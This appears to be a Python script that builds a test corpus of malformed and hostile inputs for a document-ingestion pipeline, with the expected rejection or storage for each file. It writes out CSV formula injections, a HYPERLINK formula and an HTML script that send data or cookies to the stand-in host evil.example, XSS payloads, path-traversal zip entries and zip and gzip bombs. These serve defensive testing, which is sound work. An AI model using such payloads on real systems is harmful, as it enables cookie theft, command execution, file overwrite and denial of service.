"""The nasty-input corpus: small files are committed next to this script, big ones generated.

``python tests/data/bad/make_bad_inputs.py`` rewrites the small files here;
``big_inputs(folder)`` writes the large ones (a 50 MB single line, zip and gzip bombs) into a
temporary folder at test time, so that nothing large or dangerous is committed.
``EXPECTED`` says what ingesting each file must give: documents stored, or a rejection whose
reason contains the given words.
"""

from __future__ import annotations

import gzip
import io
import json
import random
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
MB = 1024 * 1024
INJECTIONS = (
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "\t=1+1",
)
SCRIPT = "<script>alert('xss')</script>"

# file name -> ("stored", n documents) or ("rejected", words the reason contains)
EXPECTED: dict[str, tuple[str, object]] = {
    "binary.bin": ("rejected", "binary file"),
    "utf16_no_bom.txt": ("stored", 1),
    "utf16_be_no_bom.txt": ("stored", 1),
    "mixed_encoding.txt": ("rejected", "not UTF-8 text"),
    "latin1.txt": ("rejected", "not UTF-8 text"),
    "empty.txt": ("rejected", "empty file"),
    "whitespace.txt": ("rejected", "empty file"),
    "invalid.gz": ("rejected", "gzip"),
    "truncated.txt.gz": ("rejected", "truncated gzip"),
    "not_a_zip.zip": ("rejected", "not a readable zip"),
    "csv_injection.csv": ("stored", len(INJECTIONS)),
    "script.html": ("stored", 1),
    "broken_feed.rss": ("rejected", "feed entry has no text"),
    "bad_lines.jsonl": ("stored", 1),  # plus one rejection per bad line, see BAD_LINES
    "ragged.csv": ("stored", 1),
    "traversal.zip": ("rejected", "unsafe path in zip"),
    "nul_in_json.jsonl": ("rejected", "binary"),
}
BAD_LINES = {  # line -> reason words, for bad_lines.jsonl
    1: "malformed JSON",
    2: "not a JSON object",
    3: "no 'text' field",
    4: "not a string",
    5: "empty 'text'",
    6: "bad date",
}


def small_inputs(folder: Path) -> None:
    """Write the committed corpus (each file a few hundred bytes)."""
    folder.mkdir(parents=True, exist_ok=True)
    rng = random.Random(0)
    text = "Russia and Pakistan held their first joint military exercise in September 2016.\n"
    (folder / "binary.bin").write_bytes(bytes(rng.randrange(256) for _ in range(600)) + b"\0")
    (folder / "utf16_no_bom.txt").write_bytes(text.encode("utf-16-le"))
    (folder / "utf16_be_no_bom.txt").write_bytes(
        "India and Japan signed a defence agreement in Tokyo.\n".encode("utf-16-be")
    )
    (folder / "mixed_encoding.txt").write_bytes(
        "Moscow said: “talks”. ".encode() + "Café in Lahore, São Paulo.".encode("latin-1")
    )
    (folder / "latin1.txt").write_bytes("Le président a rencontré à Genève.".encode("latin-1"))
    (folder / "empty.txt").write_bytes(b"")
    (folder / "whitespace.txt").write_bytes(b" \n\t\r\n  \n")
    (folder / "invalid.gz").write_bytes(b"\x1f\x8b\x08\x00garbage-not-deflate" * 4)
    full = gzip.compress(text.encode() * 50)
    (folder / "truncated.txt.gz").write_bytes(full[: len(full) // 2])
    (folder / "not_a_zip.zip").write_bytes(b"PK\x03\x04 this is not really a zip")
    buf = io.StringIO()
    buf.write("id,date,title,text\n")
    for i, inj in enumerate(INJECTIONS):
        row = [f"inj{i}", "2016-09-26", inj, f"{inj} Russia condemned Pakistan."]
        buf.write(",".join('"' + c.replace('"', '""') + '"' for c in row) + "\n")
    (folder / "csv_injection.csv").write_text(buf.getvalue(), encoding="utf-8")
    (folder / "script.html").write_text(
        "<!doctype html><html><head><title>Talks " + SCRIPT + "</title>"
        "<script>document.location='http://evil.example/'+document.cookie</script></head>"
        "<body><article><h1>Russia and Pakistan</h1>"
        "<p>Russia and Pakistan held their first joint military exercise on Saturday, the "
        "defence ministry said, in a sign of warming ties between the former rivals.</p>"
        "<img src=x onerror=\"alert('img')\"><p>India protested the drills and said it "
        "would raise the matter with Moscow, officials in New Delhi told reporters.</p>"
        "</article></body></html>",
        encoding="utf-8",
    )
    (folder / "broken_feed.rss").write_text("<rss><channel><item><title>unclosed", encoding="utf-8")
    lines = [
        '{"text": "unterminated',
        "[1, 2, 3]",
        '{"body_missing": "x"}',
        '{"text": 42}',
        '{"text": "   "}',
        '{"text": "Russia met India.", "date": "2016-13-45"}',
        json.dumps(
            {"id": "good", "text": "Japan and India signed a defence pact.", "date": "2016-09-01"}
        ),
    ]
    (folder / "bad_lines.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    (folder / "ragged.csv").write_text(
        "id,text\nr1,China praised Pakistan.\nr2,too,many,fields\n", encoding="utf-8"
    )
    with zipfile.ZipFile(folder / "traversal.zip", "w") as zf:
        zf.writestr("../../../../tmp/allegiance-evil.txt", "France criticised Iran over the talks.")
        zf.writestr("/etc/allegiance-evil.txt", "Germany praised Japan.")
    (folder / "nul_in_json.jsonl").write_bytes(b'{"text": "a\x00b", "x": "\x00\x00\x00"}\n' * 5)


def big_inputs(folder: Path) -> dict[str, tuple[str, object]]:
    """Write the large inputs into ``folder``; return their expected outcomes."""
    folder.mkdir(parents=True, exist_ok=True)
    line = (b"Russia and Pakistan held talks. " * (50 * MB // 32 + 1))[: 50 * MB]
    (folder / "one_line_50mb.txt").write_bytes(line)
    with (folder / "one_line_50mb.jsonl").open("wb") as fh:
        fh.write(b'{"text": "' + line + b'"}\n')
        fh.write(b'{"id": "after", "text": "China and Japan held talks."}\n')
    zeros = bytes(MB)
    with (
        zipfile.ZipFile(folder / "bomb.zip", "w", compression=zipfile.ZIP_DEFLATED) as zf,
        zf.open("zeros.txt", "w", force_zip64=True) as member,
    ):
        for _ in range(200):
            member.write(zeros)
    with gzip.open(folder / "bomb.txt.gz", "wb", compresslevel=9) as gz:
        for _ in range(200):
            gz.write(zeros)
    return {
        "one_line_50mb.txt": ("rejected", "larger than 20,000,000 bytes"),
        "one_line_50mb.jsonl": ("stored", 1),  # the big line rejected, the next one stored
        "bomb.zip": ("rejected", "zip bomb"),
        "bomb.txt.gz": ("rejected", "decompressed size exceeds"),
    }


if __name__ == "__main__":
    small_inputs(HERE)
    print(f"wrote the small corpus into {HERE}")
